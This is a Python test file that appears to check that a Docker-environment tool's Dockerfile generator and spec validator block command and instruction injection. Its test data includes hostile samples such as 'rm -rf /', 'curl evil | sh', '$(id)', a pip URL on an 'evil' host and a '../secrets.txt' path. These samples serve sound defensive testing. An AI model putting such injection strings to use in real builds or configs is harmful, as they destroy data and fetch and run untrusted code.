"""No user value can add a Dockerfile instruction or a shell command (property-based)."""

from __future__ import annotations

import json
import string

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from envman.errors import UsageError
from envman.image.plan import plan_dockerfile, quote_docker
from envman.image.render import render_dockerfile
from envman.model import Cc, Resolution, Target
from envman.project.spec import parse_spec

RES = Resolution(
    framework="torch", version="2.14.1", variant="cu130", index_url=None, package="torch", companions=(),
    cuda="13.0", cudnn="9.24.0.43", nccl="2.30.7", python="3.11", base_image="python:3.11-slim-bookworm",
    base_kind="slim", min_driver="580.95.05", min_driver_minor_compat="580.65.06", driver_mode="full",
    driver="580.95.05", driver_assumed=True, arch_list=("sm_90",), ptx=(), targets=(Target("h100", Cc(9, 0)),),
    extras=(), notes=(), warnings=(),
)


def logical_lines(dockerfile: str) -> list[str]:
    """Docker's reading of a Dockerfile: comments dropped, backslash-newline continues a line."""
    out, cur = [], ""
    for raw in dockerfile.split("\n"):  # Docker's scanner splits on \n only
        if raw.lstrip().startswith("#") and not cur:
            continue
        if raw.rstrip().endswith("\\"):
            cur += raw.rstrip()[:-1] + " "
            continue
        cur += raw
        if cur.strip():
            out.append(cur.strip())
        cur = ""
    if cur.strip():
        out.append(cur.strip())
    return out


def unquote_docker(word: str) -> str:
    """Docker's double-quote processing: backslash escapes \\, " and $ (shell_parser.go)."""
    assert word[0] == '"' and word[-1] == '"', word
    body, out, i = word[1:-1], [], 0
    while i < len(body):
        ch = body[i]
        if ch == "\\" and i + 1 < len(body) and body[i + 1] in '"$\\':
            out.append(body[i + 1])
            i += 2
            continue
        assert ch not in '"', f"unescaped quote in {word!r}"
        out.append(ch)
        i += 1
    return "".join(out)


def render(env=(), command=(), apt=()) -> str:
    from envman.lockedstack import BaseImage, LockedStack, ProjectFacts

    plan = plan_dockerfile(LockedStack(
        name="demo", res=RES, base=BaseImage(RES.base_image, "slim"), apt=tuple(apt),
        project=ProjectFacts(env=tuple(env), command=tuple(command)), inputs_hash="b" * 64,
        fw_lock="requirements.framework.lock.txt", req_lock="requirements.lock.txt",
    ), "a" * 64)
    return render_dockerfile(plan)


BASELINE = [ln.split()[0] for ln in logical_lines(render(env=[("A", "x")], command=["python"]))]
CONTROL = "".join(map(chr, range(32))) + "".join(map(chr, range(0x7F, 0xA0))) + "\u2028\u2029"
printable = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters=CONTROL), max_size=40)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(value=printable, cmd=st.lists(printable, min_size=1, max_size=4))
def test_env_and_command_cannot_add_instructions(value, cmd):
    text = render(env=[("A", value)], command=cmd)
    lines = logical_lines(text)
    assert [ln.split()[0] for ln in lines] == BASELINE
    env_line = next(ln for ln in lines if ln.startswith("ENV A="))
    assert unquote_docker(env_line[len("ENV A="):]) == value
    cmd_line = next(ln for ln in lines if ln.startswith("CMD "))
    assert json.loads(cmd_line[4:]) == cmd


@settings(max_examples=300)
@given(value=st.text(max_size=30))
def test_spec_values_with_control_characters_are_refused(value):
    """Newlines, tabs, NUL … never reach a template: the spec refuses them with a field name."""
    data = {"name": "demo", "env": {"A": value}, "command": ["python", value], "packages": [], "cpu": True}
    if any(c in CONTROL for c in value):
        with pytest.raises(UsageError) as exc:
            parse_spec(data)
        assert exc.value.message.startswith("envman.yaml: env.A: ") or exc.value.message.startswith("envman.yaml: command")
    else:
        spec = parse_spec(data)
        assert dict(spec.env)["A"] == value


@settings(max_examples=300)
@given(name=st.text(alphabet=string.ascii_letters + string.digits + "+.-=:~_ ;&|$()`'\"\\\n<>*", min_size=1, max_size=20))
def test_apt_names_are_single_shell_words(name):
    try:
        spec = parse_spec({"name": "demo", "system_packages": [name], "cpu": True})
    except UsageError as exc:
        assert exc.message.startswith("envman.yaml: system_packages[0]: ")
        return
    text = render(apt=spec.system_packages)
    lines = logical_lines(text)
    run = next(ln for ln in lines if "apt-get install" in ln)
    word = spec.system_packages[0]  # as validated (surrounding blanks trimmed)
    assert run.split()[-1] == word and not set(word) & set(";&|$()`'\"\\<>* \n")


@pytest.mark.parametrize("bad", ["a\nRUN rm -rf /", 'x" && curl evil | sh', "$(id)", "a\\", "`id`"])
def test_quote_docker_known_attacks(bad):
    if "\n" in bad:
        with pytest.raises(ValueError):
            quote_docker(bad)
        return
    assert unquote_docker(quote_docker(bad)) == bad


@pytest.mark.parametrize("field,value,message", [
    ("packages", ["numpy; rm -rf /"], "envman.yaml: packages[0]: 'numpy; rm -rf /' is not a valid requirement"),
    ("packages", ["torch @ https://evil/x.whl"], "envman.yaml: packages[0]: 'torch @ https://evil/x.whl' is a direct URL"),
    ("name", "My Project", "envman.yaml: name: 'My Project' is not a valid image name"),
    ("env", {"BAD-NAME": "x"}, "envman.yaml: env.BAD-NAME: 'BAD-NAME' is not an environment variable name"),
    ("requirements", ["../secrets.txt"], "envman.yaml: requirements[0]: '../secrets.txt' is not a relative path inside the project"),
    ("base_image", "python:3.11\nRUN x", "envman.yaml: base_image: 'python:3.11\\nRUN x' contains a control character (newline, tab …)"),
    ("targts", ["h100"], "envman.yaml: targts: unknown key"),
])
def test_bad_spec_values(field, value, message):
    data = {"name": "demo", "cpu": True, field: value}
    with pytest.raises(UsageError) as exc:
        parse_spec(data)
    assert exc.value.message.startswith(message), exc.value.message


def test_unknown_key_hint_names_closest():
    with pytest.raises(UsageError) as exc:
        parse_spec({"name": "demo", "targts": ["h100"]})
    assert exc.value.hint == "did you mean 'targets'?"


# --- command-line values go through the same validators as envman.yaml's (issue #12) ----------------------

image_text = st.one_of(
    st.text(max_size=30),
    st.text(alphabet=string.ascii_lowercase + string.digits + "./:@-_ \\\n\t=ASas", min_size=1, max_size=30),
    st.sampled_from(["--platform=linux/arm64 python:3.11-slim", " AS x", "python:3.11 AS x", "python:3.11\\",
                     "python:3.11\nRUN id", "python:3.11-slim", "registry.example.com:5000/team/py:3.11"]),
)


@settings(max_examples=300)
@given(value=image_text)
def test_base_image_is_one_word_in_from_or_refused(value):
    from envman.project.spec import validate_base_image

    try:
        validate_base_image(value)
    except UsageError as exc:
        assert exc.message.startswith("--base-image: ") and "\n" not in exc.message
        return
    from envman.lockedstack import BaseImage, LockedStack

    plan = plan_dockerfile(LockedStack(
        name="demo", res=RES, base=BaseImage(value, "custom"), inputs_hash="b" * 64, req_lock="requirements.lock.txt",
    ), "a" * 64)
    lines = logical_lines(render_dockerfile(plan))
    froms = [ln for ln in lines if ln.split()[0] == "FROM"]
    # the base twice: the stage that filters the source, and the image (issue 24: no lock file in /app)
    assert froms == [f"FROM {value} AS envman-source", f"FROM {value}"]
    assert not value.startswith("-") and "\\" not in value and " " not in value


@settings(max_examples=15, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
          deadline=None)
@given(value=image_text, command=st.sampled_from(["lock", "build"]))
def test_cli_base_image_is_validated_like_the_spec(tmp_path, capsys, value, command):
    """Through the real command line: a value the spec would refuse is refused before anything else is read."""
    from envman.cli.main import main
    from envman.project.spec import parse_spec

    capsys.readouterr()
    try:
        parse_spec({"name": "demo", "cpu": True, "base_image": value})
        spec_ok = value == value.strip()  # envman.yaml trims blanks; the command line takes the value as given
    except UsageError:
        spec_ok = False
    if value.startswith("-"):
        argv = [command, str(tmp_path), f"--base-image={value}"]
    else:
        argv = [command, str(tmp_path), "--base-image", value]
    assert main(argv) == 1
    err = capsys.readouterr().err
    if spec_ok:
        assert err.startswith("error: no envman.yaml"), err
    else:
        assert err.startswith("error: --base-image: ") and len(err.splitlines()) == 2, err
